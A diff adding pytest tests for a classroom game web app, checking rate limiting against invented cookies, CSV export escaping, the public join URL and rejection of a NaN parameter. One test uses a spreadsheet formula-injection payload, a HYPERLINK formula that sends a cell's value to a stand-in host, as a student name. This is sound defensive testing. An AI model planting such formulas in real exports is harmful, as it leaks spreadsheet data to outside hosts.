@@ -232,3 +232,44 @@ def test_clients_are_rate_limited(tmp_path: Path) -> None:
     codes = [browser.get("/").status_code for _ in range(10)]  # type: ignore[attr-defined]
     assert codes[:9] == [200] * 9 and codes[9:] == [429]  # by address: 5 x 2, less the login
     store.close()
+
+
+def test_made_up_tokens_do_not_escape_the_rate_limit(tmp_path: Path) -> None:
+    scenario = load_scenario(BASELINE)
+    store = Store(tmp_path / "c.sqlite", scenario, "test-hash")
+    application = create_app(store, scenario, TOKEN, rate=0.001, burst=2)
+    codes = []
+    for k in range(12):
+        browser = client(application)
+        browser.cookies.set(STUDENT_COOKIE, f"made-up-{k}")  # type: ignore[attr-defined]
+        codes.append(browser.get("/").status_code)  # type: ignore[attr-defined]
+    assert codes.count(429) == 2  # counted by address (5 x 2), not one bucket per cookie
+    store.close()
+
+
+def test_exports_cannot_carry_formulas_and_the_join_address_is_the_public_one(
+    tmp_path: Path,
+) -> None:
+    scenario = load_scenario(BASELINE)
+    store = Store(tmp_path / "c.sqlite", scenario, "test-hash")
+    application = create_app(
+        store, scenario, TOKEN, rate=1000, burst=1000, public_base="http://192.0.2.2:8000/"
+    )
+    teacher = instructor(application)
+    sid = new_session(teacher)
+    code = code_of(teacher, sid)
+    page = teacher.get(f"/instructor/session/{sid}").text  # type: ignore[attr-defined]
+    assert f"http://192.0.2.2:8000/?code={code}" in page
+    formula = '=HYPERLINK("http://x.test/?"&A1,"ok")'
+    student = join(application, code, formula)
+    teacher.post(f"/instructor/session/{sid}/start")  # type: ignore[attr-defined]
+    student.post(  # type: ignore[attr-defined]
+        "/play/order", data={"move": "mediation", "action": "stay_out", "round": "1"}
+    )
+    rows = teacher.get(f"/instructor/session/{sid}/moves.csv").text.splitlines()  # type: ignore[attr-defined]
+    assert rows[1].startswith("\"'=HYPERLINK(")  # quoted by csv, defused by the apostrophe
+    bad = teacher.post(  # type: ignore[attr-defined]
+        "/instructor/sessions", data={"worlds": "1", "bots": "qre", "lam": "nan"}
+    )
+    assert bad.status_code == 400 and "lambda" in bad.text
+    store.close()
